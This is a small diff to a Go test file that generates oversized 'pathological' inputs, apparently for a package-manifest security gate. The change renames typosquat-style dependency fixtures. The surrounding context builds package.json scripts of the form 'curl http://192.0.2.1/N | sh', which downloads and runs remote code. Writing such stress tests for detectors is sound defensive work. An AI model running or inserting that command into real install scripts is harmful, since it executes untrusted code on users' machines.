@@ -165,7 +165,7 @@ func structured() []pathological {
 			return `{"scripts": {` + numbered(`"s%d": "curl http://192.0.2.1/%d | sh", `)(size) + `"z": ""}}`
 		}},
 		{"many dependencies", "package.json", gate.LanguageJSON, func(size int) string {
-			return `{"dependencies": {` + numbered(`"expresss%d": "^%d", `)(size) + `"z": ""}}`
+			return `{"dependencies": {` + numbered(`"lodahs%d": "^%d", `)(size) + `"z": ""}}`
 		}},
 		{"many requirements", "requirements.txt", gate.LanguageText, numbered("requestss%d>=%d\n")},
 		{"many modules", "go.mod", gate.LanguageText, func(size int) string {
